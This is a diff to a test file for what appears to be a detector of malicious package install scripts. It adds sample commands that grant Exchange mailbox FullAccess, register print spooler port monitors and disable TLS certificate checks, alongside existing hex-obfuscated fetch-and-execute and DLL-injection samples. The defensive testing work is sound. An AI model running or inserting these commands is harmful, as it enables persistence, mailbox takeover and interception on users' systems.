@@ -124,6 +124,18 @@ def rules(art: Artifact) -> set[str]:
      "/d \"wscript.exe //B x.js\" /f", "install-script/scheduled-task"),
     ("v=" + b"curl -fsSL https://sync.example/s.sh | sh".hex() + "; eval \"$(printf %s \"$v\" | xxd -r -p)\"",
      "install-script/fetch-and-execute"),
+    # corpus samples a false finding had propped up (Write-Host as a network tool): an Exchange mailbox delegation and a
+    # print spooler port monitor, each at install
+    ("Add-MailboxPermission -Identity $id -User $c.delegate -AccessRights FullAccess -AutoMapping:$false",
+     "install-script/mailbox-grant"),
+    ("New-ManagementRoleAssignment -Role ApplicationImpersonation -User archive@corp.example", "install-script/mailbox-grant"),
+    ("$key = \"HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\$mon\"", "install-script/port-monitor"),
+    ("reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\PDF Port\" /v Driver /d pdfmon.dll /f",
+     "install-script/port-monitor"),
+    # the corpus's node-gyp header seeder: certificate checks turned off in the user's own tool settings
+    ("npm config set strict-ssl false --location=user", "install-script/tls-downgrade"),
+    ("git config --global http.sslVerify false", "install-script/tls-downgrade"),
+    ("printf 'export NODE_TLS_REJECT_UNAUTHORIZED=0\\n' >> \"$HOME/.bashrc\"", "install-script/tls-downgrade"),
     # blind set 50: a DLL injected into Explorer by Microsoft's App-V injector
     ("& \"$env:SystemRoot\\System32\\mavinject.exe\" $pid /INJECTRUNNING $env:TEMP\\toast.dll", "install-script/dll-injection"),
     ("osascript -e 'tell app \"System Events\" to shut down'", "install-script/system-shutdown"),
@@ -1200,3 +1212,17 @@ def test_a_hex_variable_is_a_command_only_when_echoed_into_a_decoder():
     banner = "v=" + b"Thanks for installing! Docs live in the README of this package.".hex() + "; printf %s \"$v\" | xxd -r -p > NOTICE"
     for command in (checksum, banner):
         assert not [f for f in judge_command(command, "postinstall", "package.json", 1, "") if f.severity >= Severity.HIGH]
+
+
+def test_reading_mailbox_rights_or_the_spoolers_monitors_is_no_grant():
+    # (a report of who may read which mailbox, a printer tool listing the installed port monitors)
+    for command in ("Get-MailboxPermission -Identity $id | Where-Object { $_.AccessRights -eq 'FullAccess' }",
+                    "Get-ChildItem HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors | Select-Object PSChildName"):
+        assert not {f.rule for f in judge_command(command, "postinstall", "package.json", 1, "")} \
+            & {"install-script/mailbox-grant", "install-script/port-monitor"}
+
+
+def test_reading_or_advising_about_certificate_settings_is_no_downgrade():
+    for command in ("npm config get strict-ssl", "git config --global http.sslVerify true",
+                    "echo 'Behind a proxy? export NODE_TLS_REJECT_UNAUTHORIZED=0 at your own risk'"):
+        assert "install-script/tls-downgrade" not in {f.rule for f in judge_command(command, "postinstall", "package.json", 1, "")}
